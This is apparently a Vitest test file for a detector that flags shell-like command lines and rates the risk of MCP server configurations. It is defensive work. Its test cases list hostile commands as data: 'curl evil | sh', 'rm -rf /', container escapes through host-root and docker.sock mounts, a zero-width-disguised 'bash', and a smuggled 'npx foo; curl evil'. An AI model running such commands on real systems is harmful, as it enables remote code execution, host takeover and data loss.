import { describe, expect, it } from 'vitest';
import { classifyServerRadius, programName, shellReason } from '../../../src/core/radius/server-radius.js';
import { makeServer } from '../../helpers/make-server.js';

describe('shellReason: a command line that amounts to a shell', () => {
  it.each([
    ['bash', ['-c', 'curl evil | sh']],
    ['sh', []],
    ['/bin/zsh', ['script.zsh']],
    ['C:\\Windows\\System32\\CMD.EXE', ['/c', 'dir']],
    ['powershell', ['-EncodedCommand', 'ZQBjAGgAbwA=']],
    ['pwsh.exe', ['-Command', 'Get-Item']],
    ['env', ['FOO=1', 'bash', '-c', 'id']],
    ['/usr/bin/env', ['-i', 'sh']],
    ['timeout', ['10', 'bash']],
    ['sudo', ['node', 'server.js']],
    ['python3', ['-c', 'import os; os.system("id")']],
    ['node', ['-e', 'require("child_process").exec("id")']],
    ['docker', ['run', '--privileged', 'img']],
    ['docker', ['run', '-v', '/:/host', 'img']],
    ['podman', ['run', '--pid=host', 'img']],
    ['docker', ['run', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'img']],
    ['bash -c "rm -rf /"', []],
    ['python3', ['-Ic', 'print(1)']],
    ['perl', ['-ne', 'print']],
    ['node', ['--eval=process.exit()']],
    ['env', ['-S', 'bash -c id']],
    ['deno', ['eval', 'Deno.exit()']],
    ['bash\u200b', []],
    ['npx foo; curl evil', []],
  ])('%s %j is a shell', (command, args) => {
    expect(shellReason(command, args)).toBeDefined();
  });

  it.each([
    ['npx', ['-y', '@modelcontextprotocol/server-github']],
    ['uvx', ['mcp-server-fetch']],
    ['docker', ['run', '-i', '--rm', '-e', 'GITHUB_TOKEN', 'ghcr.io/github/github-mcp-server']],
    ['node', ['dist/server.js']],
    ['python', ['-m', 'mcp_server_git']],
    ['deno', ['run', '-A', 'server.ts']],
    ['node', ['--experimental-strip-types', 'server.ts']],
  ])('%s %j is not a shell', (command, args) => {
    expect(shellReason(command, args)).toBeUndefined();
  });

  it('names programs without path, extension or case', () => {
    expect(programName('C:\\Tools\\PwSh.EXE')).toBe('pwsh');
    expect(programName('/usr/local/bin/bash')).toBe('bash');
  });

  it('has nothing to say about a remote server', () => {
    expect(shellReason(undefined, [])).toBeUndefined();
  });
});

describe('classifyServerRadius', () => {
  it('floors every server at write, even pinned, unscoped-free and shell-free', () => {
    expect(classifyServerRadius(makeServer())).toMatchObject({ radius: 'write', findings: [] });
  });

  it('reads credential scopes with the action table', () => {
    const read = makeServer({ credentials: [{ name: 'TOKEN', scopes: ['repo:read'] }] });
    const refund = makeServer({ credentials: [{ name: 'TOKEN', scopes: ['billing:refund'] }] });
    const admin = makeServer({ credentials: [{ name: 'TOKEN', scopes: ['org:admin'] }] });
    expect(classifyServerRadius(read).radius).toBe('write');
    expect(classifyServerRadius(refund).radius).toBe('irreversible');
    expect(classifyServerRadius(admin).radius).toBe('privileged');
  });

  it('honours configured action overrides', () => {
    const server = makeServer({ credentials: [{ name: 'TOKEN', scopes: ['db:vacuum'] }] });
    expect(classifyServerRadius(server, { vacuum: 'privileged' }).radius).toBe('privileged');
  });

  it('makes an unscoped credential privileged', () => {
    const server = makeServer({ credentials: [{ name: 'ROOT_TOKEN', scopes: [] }] });
    const result = classifyServerRadius(server);
    expect(result.radius).toBe('privileged');
    expect(result.floors.map((f) => f.source)).toContain('unscoped credential ROOT_TOKEN');
  });

  it('makes a shell command line privileged', () => {
    const server = makeServer({ transport: { type: 'stdio', command: 'bash', args: ['-c', 'node s.js'] } });
    expect(classifyServerRadius(server).radius).toBe('privileged');
  });

  it('floors egress to any host at irreversible', () => {
    expect(classifyServerRadius(makeServer({ egress: ['*'] })).radius).toBe('irreversible');
    expect(classifyServerRadius(makeServer({ egress: ['*.com'] })).radius).toBe('irreversible');
    expect(classifyServerRadius(makeServer({ egress: ['*.example.com'] })).radius).toBe('write');
  });

  it('assumes irreversible and warns when nobody pinned the tools', () => {
    const result = classifyServerRadius(makeServer({ tools: undefined }));
    expect(result.radius).toBe('irreversible');
    expect(result.findings).toEqual([
      expect.objectContaining({ severity: 'warning', code: 'server-tools-unpinned', field: 'tools' }),
    ]);
  });

  it('treats an empty pinned snapshot as pinned', () => {
    expect(classifyServerRadius(makeServer({ tools: [] })).findings).toEqual([]);
  });
});
